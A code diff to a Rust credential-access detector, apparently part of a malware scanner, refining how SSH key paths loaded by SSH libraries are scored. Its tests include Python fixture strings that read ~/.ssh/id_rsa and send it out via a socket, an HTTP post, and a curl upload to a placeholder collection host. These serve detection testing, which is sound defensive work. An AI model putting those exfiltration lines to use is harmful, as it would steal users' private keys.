@@ -20,7 +20,10 @@
 //! (automation tools, SSH libraries, schedulers' SSH hooks: Medium); a mention without
 //! a read (a CLI that tells the user where to put a key) is Low; a key path handed to an SSH
 //! client (`IdentityFile ~/.ssh/id_rsa`, `ssh -i`, `key_filename=`) is Medium whatever the
-//! file reads or sends: ssh uses the key, nothing ships it. Developer-tool config
+//! file reads or sends: ssh uses the key, nothing ships it; so is a default key path in a file
+//! that loads keys with an SSH library's key loader (`PKey.from_path`,
+//! `from_private_key_file`…) and sends nothing but over its own socket (no HTTP, SMTP or shell
+//! upload): an SSH client library looking for the user's keys. Developer-tool config
 //! is Medium when read (the matching tools legitimately read their own config), Low
 //! when only named. A path a delete command removes (`rm`, `del`, `os.remove`) is Low:
 //! nothing is read. A path segment of a web URL (`https://host/guarda/…`, not `file://`) is
@@ -36,7 +39,7 @@ use std::sync::LazyLock;
 
 pub(crate) static META: DetectorMeta = DetectorMeta {
     id: "file-system.credential-access",
-    revision: 8,
+    revision: 9,
     title: "Accesses stored credentials, browser data or crypto wallets.",
     category: Category::FileSystem,
     severity: Severity::High,
@@ -58,7 +61,7 @@ static PATHS: LazyLock<Regex> = LazyLock::new(|| {
 
 /// Whether the match sits in a Python string that is a sentence rather than a path:
 /// the rest of the string has words around the path and no shell plumbing.
-fn in_prose(src: &Source<'_>, start: usize, end: usize) -> bool {
+pub(crate) fn in_prose(src: &Source<'_>, start: usize, end: usize) -> bool {
     let Some(sp) = src.span_at(start) else {
         return false;
     };
@@ -89,18 +92,29 @@ static RAW_SOCKET: LazyLock<Regex> = LazyLock::new(|| {
 });
 static SEND_CALL: LazyLock<Regex> = LazyLock::new(|| Regex::new(r"\.send\s*\(").expect("send"));
 
-/// Whether the file both reads a file and sends data somewhere: what stealing a key takes.
-/// An SSH connection (`.connect(`, `socket.create_connection`) uses a key; it does not send it.
-fn reads_and_sends(src: &Source<'_>) -> (bool, bool) {
+/// An SSH library's key loader in code: paramiko's `PKey.from_path`, `RSAKey.from_private_key_file`,
+/// asyncssh's `read_private_key`, cryptography's `load_*_private_key`… The file authenticates
+/// with the keys it names.
+static SSH_KEY_LOADER: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r"(?-u:\b)(?:from_path|from_private_key_file|from_private_key|load_ssh_private_key|load_pem_private_key|read_private_key|import_private_key_file)\s*\(")
+        .expect("ssh key loader")
+});
+
+/// Whether the file reads a file, sends data somewhere (what stealing a key takes), and
+/// sends it *off the SSH channel*: an HTTP/SMTP send or a shell upload, not only a raw
+/// socket's `.send(` (what an SSH transport does). An SSH connection (`.connect(`,
+/// `socket.create_connection`) uses a key; it does not send it.
+fn reads_and_sends(src: &Source<'_>) -> (bool, bool, bool) {
     let reads = READ.find_iter(src.text).any(|m| !src.python || src.is_live(m.start()));
-    let sends = sinks::find(src, &[SinkKind::Send])
+    let sends_out = sinks::find(src, &[SinkKind::Send])
         .iter()
         .any(|s| !s.name.ends_with("connect") && !s.name.ends_with("create_connection") && !bare_request(src.text, s))
         || SHELL_SEND
             .find_iter(src.text)
-            .any(|m| (!src.python || src.kind_at(m.start()) == Kind::Str) && !src.text[m.end()..].starts_with('.'))
+            .any(|m| (!src.python || src.kind_at(m.start()) == Kind::Str) && !src.text[m.end()..].starts_with('.'));
+    let sends = sends_out
         || [&*RAW_SOCKET, &*SEND_CALL].iter().all(|re| re.find_iter(src.text).any(|m| src.is_code(m.start())));
-    (reads, sends)
+    (reads, sends, sends_out)
 }
 
 /// `urllib.request.Request(url)` built from the caller's URL alone (no body, no literal in the
@@ -186,12 +200,16 @@ impl Detector for CredentialAccess {
                 continue;
             }
             let ssh = m.as_str().contains("id_");
-            let (reads, sends) = *read_send.get_or_init(|| reads_and_sends(src));
+            let (reads, sends, sends_out) = *read_send.get_or_init(|| reads_and_sends(src));
+            let loads_keys = || src.python && SSH_KEY_LOADER.find_iter(file.text).any(|k| src.is_code(k.start()));
             let sev = match (install, c.name("high").is_some()) {
                 (true, _) => Severity::Critical,
                 // A key handed to ssh (`IdentityFile ~/.ssh/id_rsa`, `ssh -i ~/.ssh/id_rsa`,
                 // `key_filename=`): a client using its key, whatever else the file reads or sends.
                 (false, true) if ssh && handed_to_ssh(file.text, m.start()) => Severity::Medium,
+                // An SSH client library looking for the user's default keys to load them with its
+                // key loader, in a file whose only sends are its own transport's: ssh uses them.
+                (false, true) if ssh && !sends_out && loads_keys() => Severity::Medium,
                 // A store named in code that does not run on import (a function body, a constant
                 // the file's functions use), in a file that reads but sends nothing: a client
                 // using the store its caller picks (a downloader's "cookies from browser" option,
@@ -495,6 +513,27 @@ mod tests {
                     Runtime,
                     "def collect():\n    info['ssh'] = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n    s = socket.socket(); s.connect((H, 53)); s.send(repr(info).encode())\n",
                     Some((2, ".ssh/id_rsa", High)),
+                ),
+                (
+                    "an SSH client library's default keys, loaded by its key loader, its transport's socket",
+                    "ncclient/transport/ssh.py",
+                    Runtime,
+                    "def _auth(self, look_for_keys):\n    keyfiles = []\n    if look_for_keys:\n        rsa_key = os.path.expanduser('~/.ssh/id_rsa')\n        if os.path.isfile(rsa_key):\n            keyfiles.append(rsa_key)\n    for filename in keyfiles:\n        key = paramiko.PKey.from_path(filename, password)\n        self._transport.auth_publickey(username, key)\n    with open(known_hosts) as f:\n        pass\n    sock = socket.socket(af, socktype)\n    return self._channel.send(data)\n",
+                    Some((4, ".ssh/id_rsa", Medium)),
+                ),
+                (
+                    "the same key loader beside an HTTP post of the key",
+                    "pkg/a.py",
+                    Runtime,
+                    "k = open(os.path.expanduser('~/.ssh/id_rsa')).read()\nkey = paramiko.RSAKey.from_private_key_file(p)\nrequests.post(URL, data=k)\n",
+                    Some((1, ".ssh/id_rsa", High)),
+                ),
+                (
+                    "a key loader beside a curl upload in a command string",
+                    "pkg/a.py",
+                    Runtime,
+                    "key = paramiko.RSAKey.from_private_key_file(os.path.expanduser('~/.ssh/id_rsa'))\nos.system('curl -F f=@k https://collect.example/u')\nopen(p)\n",
+                    Some((1, ".ssh/id_rsa", High)),
                 ),
                 (
                     "ssh key opened to connect (an SSH client's job)",
